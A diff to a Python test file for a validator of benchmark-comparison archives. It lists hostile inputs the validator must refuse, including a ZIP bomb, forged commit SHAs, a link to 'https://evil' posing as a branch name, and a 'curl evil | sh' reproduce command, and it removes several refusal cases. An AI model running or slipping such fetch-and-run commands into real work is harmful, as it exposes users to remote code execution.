@@ -70,33 +70,19 @@ REFUSED = {
     "a huge archive": (b"0" * 3_000_001, "the archive has more than 3000000 bytes"),
     "a ZIP bomb": (archive(b" " * 20_000_000), "has more than 4000000 bytes"),
     "not JSON": (archive("hello"), "no JSON: Expecting value"),
-    "not UTF-8": (archive(b'{"schema": "\xff"}'), "no JSON: 'utf-8' codec"),
-    "deeply nested": (archive("[" * 1_000_000), "no JSON: maximum recursion"),
-    "a key twice": (archive('{"schema": 1, "schema": 1}'), "a key comes twice"),
-    "another type": (archive("[]"), "a comparison is an object, got list"),
-    "infinity, spelt out": (
-        archive(json.dumps(document()).replace('"minutes": 3.62', '"minutes": 1e999')),
-        "comparison.minutes must be a finite number",
-    ),
     "an unknown key": (archive(document(html="<b>")), r"comparison has unknown \['html'\]"),
 }
 OF_ANOTHER = {"name": OTHER, "sha": OTHER}
-TIMING = ("families", "gpu", "timings", 0)
 REFUSED |= {
     name: (archive(changed(path, value)), message)
     for name, path, value, message in (
         ("NaN", ["minutes"], float("nan"), "NaN is no number"),
-        ("infinity", [*TIMING, "effect"], float("inf"), "Infinity is no number"),
-        ("-infinity", [*TIMING, "low"], float("-inf"), "-Infinity is no number"),
         ("a wrong answer", ["answer"], "pass", "answer is 'pass', the rest says 'fail'"),
         ("a forged head", ["head"], OF_ANOTHER, f"commit {HEAD} was to be measured"),
         ("a forged base", ["base"], OF_ANOTHER, f"commit {BASE} was to be measured"),
         ("an abbreviated head", ["head", "sha"], HEAD[:10], f"commit {HEAD} was to be measured"),
         ("a name that is no SHA", ["head", "name"], "[main](https://evil)", f"commit {HEAD} was"),
         ("a command to be copied", ["reproduce"], "curl evil | sh", "it gives another command"),
-        ("soft rules", ["rules", "min_effect"], 0.9, "judged by other rules"),
-        ("impossible time", ["minutes"], -1, "comparison.minutes must be a finite number"),
-        ("impossible interval", [*TIMING, "low"], 0.9, "does not hold its effect"),
     )
 }
 
